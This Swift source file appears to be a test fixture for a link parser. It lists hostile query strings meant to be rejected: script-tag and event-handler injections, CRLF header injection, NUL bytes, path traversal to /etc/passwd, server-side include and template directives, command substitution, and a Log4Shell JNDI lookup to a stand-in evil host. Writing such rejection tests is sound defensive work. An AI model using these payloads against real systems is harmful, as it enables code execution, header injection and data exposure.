extension LinkRow {
    /// Queries without a valid value.
    package static let hostileQueries = [
        // Script and attributes, encoded once and twice.
        "ip=%3Cscript%3Ealert(1)%3C/script%3E", "ip=<script>alert(1)</script>",
        "ip=%253Cscript%253Ealert(1)%253C%252Fscript%253E", "ip=192.0.2.1%22onclick=%22alert(1)",
        "ip=192.0.2.1\"><img+src=x+onerror=alert(1)>", "list=%22%3E%3Csvg%3E",
        "ip=192.0.2.1%3Cb%3E", "code=5.7.1%3Cb%3E", "ip=&lt;b&gt;", "ip=%26lt;",
        // Line breaks, NUL, and what is not UTF-8.
        "ip=192.0.2.1%0D%0ASet-Cookie:%20a=b", "code=5.7.1%0D%0A%0D%0A<b>",
        "%0d%0aX-Injected:%201=1", "ip=192.0.2.1%00", "ip=%00192.0.2.1", "list=bl.list.example%00",
        "ip=%c0%bc192.0.2.1", "ip=%ff%fe", "ip=192.0.2.1%E2%80%AE", "ip=192.0.2.1%CC%81",
        // Lookalikes: full-width and Arabic digits, a Cyrillic zone.
        "ip=%EF%BC%91%EF%BC%99%EF%BC%92.0.2.1", "ip=%D9%A1.0.2.1", "list=bl.l%D1%96st.example",
        // Almost addresses, codes, and zones.
        "ip=192.0.2.256", "ip=192.0.2", "ip=0300.0.2.1", "ip=192.0.2.01", "ip=0xC0000201",
        "ip=3221225985", "ip=192.0.2.1/24", "ip=192.0.2.1:123456", "ip=1::2::3", "ip=::::1",
        "ip=1:2:3:4:5:6:7:8:9", "ip=fe80::1%25eth0", "ip=[2001:db8::g]", "ip=12345::1", "ip=g::1",
        "ip=::192.0.2.256", "ip=1:2:3:4:5:6:7:192.0.2.1", "ip=1.2.3.4::1", "ip=-192.0.2.1",
        "ip=192.0.2.1=25", "ip=192.0.2.=10", "ip=192.0.2%201", "code=6.7.1", "code=5.7",
        "code=5.07.1", "code=5.7.1000", "list=bl.list.example.evil.example",
        "list=evilbl.list.example", "list=bl-list.example", "list=bl.list.example@evil.example",
        "list=call-0900-123.example", "list=a.b.dq.list.example", "list=.dq.list.example",
        "list=https://evil.example/", "list=../../etc/passwd", "list=..%2f..%2fde",
        "list=%2e%2e/too-big",
        // Directives of every server, and of other programs.
        "ip=<!--%23echo+var=%22DOCUMENT_ROOT%22+-->", "ip=%3C!--%23include+virtual=%22/%22--%3E",
        "ip={{env+%22HOME%22}}", "ip=%7B%7B.Req.Header%7D%7D", "ip={http.request.remote}",
        "ip={http.request.remote.host}",
        "ip=${jndi:ldap://evil.example/a}", "ip=%24%7Benv:HOME%7D", "ip=$document_root",
        "ip=%25%7BREMOTE_ADDR%7D", "ip=`id`", "ip=%60id%60", "ip=<?php+phpinfo()+?>", "ip=$1",
        "retour_ip=192.0.2.1", "known=ip", "x=%26ipp=192.0.2.1", "x=%3B%00ip=192.0.2.1",
        // Grammar.
        "ip", "ip=", "=192.0.2.1", "ipp=192.0.2.1", "xip=192.0.2.1", "ip%3A192.0.2.1",
        "ip=3D3D3D3D192.0.2.1", "ip[]=192.0.2.1", "ip=a&ip=b&ip=c", "&&&;;;===", "%", "%%%", "ip=%",
        "?ipp=192.0.2.1", "#", "ip=192,0,2,1",
    ]
}
